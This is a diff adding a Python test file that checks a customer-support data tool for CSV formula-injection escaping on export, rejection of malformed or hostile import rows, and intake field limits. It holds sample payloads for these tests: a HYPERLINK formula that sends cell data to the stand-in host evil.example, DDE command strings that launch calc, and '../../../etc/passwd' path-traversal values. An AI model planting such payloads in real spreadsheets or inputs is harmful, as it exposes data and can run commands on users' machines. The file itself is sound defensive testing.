@@ -1,0 +1,220 @@
+"""Issue 15 part 4 and 3: CSV formula injection on export, hostile and malformed import rows,
+the intake field limits shared by import and HTTP /intake."""
+
+import csv
+import json
+from pathlib import Path
+
+import pytest
+
+from helpers import cli, cli_subprocess
+from replyloop.dataio import question_from_mapping, read_questions, read_samples
+from replyloop.errors import FieldError
+
+HOSTILE = [
+    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里查看物流\")", "已为您查询"),
+    ("-2+3+cmd|' /C calc'!A0", "请联系客服"),
+    ("+86 138 0000 0000 是我的电话吗", "是的"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "好的"),
+    ("\t=1+1 退货", "可以退"),
+    ("怎么登录", "- 先打开 App\n- 点「我的」登录"),  # a legit reply that starts with "-"
+]
+
+
+def write(path: Path, text: str) -> Path:
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+@pytest.fixture
+def hostile_store(workspace, tmp_path):
+    _, store = workspace
+    src = write(tmp_path / "in.jsonl", "".join(json.dumps({"prompt": p, "response": r}, ensure_ascii=False) + "\n"
+                                            for p, r in HOSTILE))
+    assert cli("data", "import", src).exit_code == 0
+    return store
+
+
+def test_export_neutralises_formula_cells(hostile_store, tmp_path):
+    out = tmp_path / "train_data"
+    result = cli("data", "export", out, "--no-scrub-pii")
+    assert result.exit_code == 0, result.output
+    with (out / "metadata.csv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))[1:]
+    cells = [c for row in rows for c in row[:2]]
+    # no cell a spreadsheet would run: each starts with a quote or a harmless character
+    assert all(c[:1] not in "=+-@\t\r" for c in cells), cells
+    prompts = [r[0] for r in rows]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里查看物流\")" in prompts
+    assert "'-2+3+cmd\\|' /C calc'!A0" in prompts  # defusedcsv also escapes the DDE pipe
+    assert "'=1+1 退货" in prompts  # stored trimmed: the tab in front was not kept
+    # the legit reply that starts with "-" is still readable: one quote in front, nothing else changed
+    assert [r[1] for r in rows if r[0] == "怎么登录"] == ["'- 先打开 App\n- 点「我的」登录"]
+
+
+def test_raw_csv_writes_cells_as_stored(hostile_store, tmp_path):
+    out = tmp_path / "raw"
+    assert cli("data", "export", out, "--raw-csv", "--no-scrub-pii").exit_code == 0
+    with (out / "metadata.csv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))[1:]
+    stored = {(s["prompt"], s["response"]) for s in hostile_store.samples()}
+    assert {(r[0], r[1]) for r in rows} == stored
+    assert ("-2+3+cmd|' /C calc'!A0", "请联系客服") in stored
+
+
+def test_round_trip_import_removes_the_quote_the_export_added(hostile_store, tmp_path):
+    out = tmp_path / "train_data"
+    assert cli("data", "export", out, "--no-scrub-pii").exit_code == 0
+    got = {(s.prompt, s.response) for s in read_samples(out / "metadata.csv")}
+    assert got == {(s["prompt"], s["response"]) for s in hostile_store.samples()}
+    # imported into the same store: every row is a duplicate, none comes back with a quote
+    result = cli("data", "import", out / "metadata.csv")
+    assert result.stdout.endswith(f"Imported 0 sample(s) from {out / 'metadata.csv'}, skipped {len(HOSTILE)} duplicate(s)\n")
+
+
+def test_weekly_numbers_csv_neutralises_a_customer_category():
+    import io
+
+    from replyloop import csvsafe
+
+    buffer = io.StringIO()
+    writer = csvsafe.writer(buffer, lineterminator="\n")
+    writer.writerow(["reviews", "2026-W48", "=cmd|' /C calc'!A0", "approve", -3])
+    writer.writerow(["consistency", "2026-W48", "物流查询", "mean", -0.25])
+    writer.writerow(["\t=1+1", "-0.5", "- 先登录"])
+    assert buffer.getvalue() == ("reviews,2026-W48,'=cmd\\|' /C calc'!A0,approve,-3\n"
+                                 "consistency,2026-W48,物流查询,mean,-0.25\n"
+                                 "'\t=1+1,-0.5,'- 先登录\n")
+    row = next(csv.reader(io.StringIO(buffer.getvalue().splitlines(keepends=True)[2])))
+    assert [csvsafe.unescape(c) for c in row] == ["\t=1+1", "-0.5", "- 先登录"]
+    crlf = io.StringIO()
+    csvsafe.writer(crlf).writerow(["\r=1+1"])
+    assert crlf.getvalue() == "\"'\r=1+1\"\r\n"
+    assert csvsafe.unescape(next(csv.reader(io.StringIO(crlf.getvalue(), newline="")))[0]) == "\r=1+1"
+
+
+# -- import validation ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name,content,message", [
+    ("nul.csv", "prompt,response\nq1,a1\n\x00\x00,a2\n", r"nul.csv:3: prompt contains a NUL character \(U\+0000\) at character 1"),
+    ("zw.csv", "prompt,response\nq1,\u200b\u200d\ufeff \n", r"zw.csv:2: empty response \(only invisible characters\)"),
+    ("cat.jsonl", '{"prompt": "q", "response": "a", "category": ["物流查询", "支付失败"]}\n',
+     r"cat.jsonl:1: category must be a string, not a list"),
+    ("obj.jsonl", '{"prompt": "q", "response": "a"}\n{"prompt": "q", "response": "a", "category": {"x": 1}}\n',
+     r"obj.jsonl:2: category must be a string, not an object"),
+    ("sur.jsonl", '{"prompt": "q\\ud800", "response": "a"}\n',
+     r"sur.jsonl:1: prompt contains a lone surrogate \(U\+D800: not valid Unicode\) at character 2"),
+    ("deep.jsonl", '{"prompt": "q", "response": "a"}\n' + "[" * 100000 + "]" * 100000 + "\n",
+     r"deep.jsonl:2: bad JSON \(nested too deeply\)"),
+    ("path.csv", "prompt,response,category\nq,a,../../../etc/passwd\n", r"path.csv:2: category may hold only letters"),
+    ("long.csv", "prompt,response\n" + "问" * 4001 + ",a\n", r"long.csv:2: prompt is longer than 4000 characters \(4001\)"),
+    ("chat.jsonl", '{"messages": [{"role": "user", "content": "\\u200b"}, {"role": "assistant", "content": "a"}]}\n',
+     r"chat.jsonl:1: empty user message \(only invisible characters\)"),
+])
+def test_hostile_rows_are_rejected_with_file_and_line(tmp_path, name, content, message):
+    with pytest.raises(FieldError if "JSON" not in message else Exception, match=message):
+        read_samples(write(tmp_path / name, content))
+
+
+@pytest.mark.parametrize("content,message", [
+    ('{"prompt": "q\\ud800", "response": "a"}\n', "bad.jsonl:1: prompt contains a lone surrogate"),
+    ("[" * 100000 + "]" * 100000 + "\n", "bad.jsonl:1: bad JSON (nested too deeply)"),
+    ('{"prompt": "q", "response": "a", "category": ["a"]}\n', "bad.jsonl:1: category must be a string, not a list"),
+])
+def test_cli_import_of_hostile_jsonl_is_an_error_exit_2_and_stores_nothing(workspace, tmp_path, content, message):
+    _, store = workspace
+    bad = write(tmp_path / "bad.jsonl", '{"prompt": "fine", "response": "ok"}\n' + content)
+    result = cli_subprocess("data", "import", bad)
+    assert result.returncode == 2, result.stderr
+    assert result.stderr.startswith("Error: ") and message.replace("bad.jsonl:1", "bad.jsonl:2") in result.stderr
+    assert "Traceback" not in result.stderr
+    assert store.sample_count() == 0
+
+
+# -- intake field limits (shared by HTTP /intake and data import --as-questions) ----------------
+
+
+@pytest.mark.parametrize("data,field,message", [
+    ({"conversation_id": "c" * 200_000, "question": "q"}, "conversation_id", "conversation_id is longer than 200 characters (200000)"),
+    ({"conversation_id": 10 ** 5000, "question": "q"}, "conversation_id", "conversation_id is a number of more than 200 digits"),
+    ({"conversation_id": "c\x00", "question": "q"}, "conversation_id", "conversation_id contains a NUL character (U+0000) at character 2"),
+    ({"conversation_id": "c", "question": "q\x00"}, "question", "question contains a NUL character (U+0000) at character 2"),
+    ({"conversation_id": "c", "question": "q", "category": "../../../etc/passwd\u0000"}, "category",
+     "category contains a NUL character (U+0000) at character 20"),
+    ({"conversation_id": "c", "question": "q", "category": "../../../etc/passwd"}, "category",
+     "category may hold only letters, digits, spaces and - _ . & + ( ) · 、 （ ） (found '/')"),
+    ({"conversation_id": "c", "question": "\ud800"}, "question", "question contains a lone surrogate (U+D800: not valid Unicode) at character 1"),
+    ({"conversation_id": "c", "question": "\u200b\u200b"}, "question", "empty question (only invisible characters)"),
+    ({"conversation_id": "c", "question": "q", "draft": ["a"]}, "draft", "draft must be a string, not a list"),
+    ({"conversation_id": True, "question": "q"}, "conversation_id", "conversation_id must be a string, not true/false"),
+    ({"conversation_id": "c", "question": "q" * 4001}, "question", "question is longer than 4000 characters (4001)"),
+    ({"conversation_id": "c", "question": "q", "categroy": "x"}, "categroy",
+     "unknown field(s): categroy (allowed: category, conversation_id, draft, question)"),
+])
+def test_intake_fields_are_limited_and_the_error_names_the_field(data, field, message):
+    with pytest.raises(FieldError) as info:
+        question_from_mapping(data, strict=True)
+    assert info.value.field == field
+    assert str(info.value) == message
+
+
+def test_good_intake_values_pass_unchanged():
+    q = question_from_mapping({"conversation_id": 12345, "question": " 我的快递到哪了？👨‍👩‍👧 ", "category": "物流查询",
+                               "draft": "您好\n请提供订单号"}, strict=True)
+    assert (q.conversation_id, q.question, q.category, q.draft) == ("12345", "我的快递到哪了？👨‍👩‍👧", "物流查询", "您好\n请提供订单号")
+    assert question_from_mapping({"conversation_id": "slack:C1:1.2", "question": "q", "category": "After-sales (售后)"}).category == "After-sales (售后)"
+
+
+def test_questions_import_uses_the_same_limits(workspace, tmp_path):
+    _, store = workspace
+    bad = write(tmp_path / "q.csv", "conversation_id,question,category\nc1,我想退货,退换货政策\nc2,快递呢,../../../etc/passwd\n")
+    result = cli("data", "import", bad, "--as-questions")
+    assert result.exit_code == 2
+    assert result.stderr.startswith(f"Error: {bad}:3: category may hold only letters")
+    assert store.scalar("SELECT count(*) FROM questions") == 0
+    with pytest.raises(FieldError, match=r"q2.jsonl:1: conversation_id is longer than 200 characters"):
+        read_questions(write(tmp_path / "q2.jsonl", json.dumps({"conversation_id": "c" * 300, "question": "q"}) + "\n"))
+
+
+# -- the same prompt with contradictory answers --------------------------------------------------
+
+
+def test_contradictory_answers_are_warned_about_and_counted(workspace, tmp_path):
+    _, store = workspace
+    first = write(tmp_path / "a.csv", "prompt,response,category\n"
+                  "买了七天还能退吗,七天内可退,退换货政策\n"
+                  "怎么改地址,在订单页修改,物流查询\n"
+                  "买了 七天还能退吗,不可以退,退换货政策\n"       # the same prompt after normalisation
+                  "买了七天还能退吗,七天内可退,退换货政策\n")      # a plain duplicate: no warning
+    result = cli_subprocess("data", "import", first)
+    assert result.returncode == 0, result.stderr
+    assert result.stderr == f"Warning: {first}:4: the prompt '买了 七天还能退吗' has a different answer on line 2\n"
+    assert result.stdout == (f"Imported 3 sample(s) from {first}, skipped 1 duplicate(s); 1 row(s) whose prompt "
+                             "has a different answer (see `replyloop data stats`)\n")
+    later = write(tmp_path / "b.jsonl", json.dumps({"prompt": "怎么改地址", "response": "不能改"}, ensure_ascii=False) + "\n")
+    result = cli_subprocess("data", "import", later)
+    [sample_id] = [s["id"] for s in store.samples() if s["response"] == "在订单页修改"]
+    assert result.stderr == f"Warning: {later}:1: the prompt '怎么改地址' has a different answer on stored sample #{sample_id}\n"
+    stats = json.loads(cli_subprocess("data", "stats", "--json").stdout)
+    assert stats["conflicting_prompts"] == 2 and stats["samples"] == 4
+    assert "Prompts with conflicting answers: 2" in cli_subprocess("data", "stats").stdout
+
+
+def test_an_old_database_gets_prompt_keys(tmp_path):
+    import sqlite_utils
+
+    from replyloop import migrations
+    from replyloop.store import Store
+
+    path = tmp_path / "old.db"
+    old = sqlite_utils.Database(path)
+    migrations.migrate(old, upto="m030_process_identity")
+    for prompt, response, key in (("怎么退货？", "七天内可退", "k1"), ("怎么 退货?", "不可以退", "k2")):
+        old.execute("INSERT INTO samples (prompt, response, source, approved_at, dedupe_key) VALUES (?, ?, 'import', '2026-01-01', ?)",
+                    (prompt, response, key))
+    old.conn.commit()
+    old.close()
+    store = Store(path)
+    assert {r["prompt_key"] for r in store.samples()} == {"怎么退货?"}
+    assert store.stats()["conflicting_prompts"] == 1
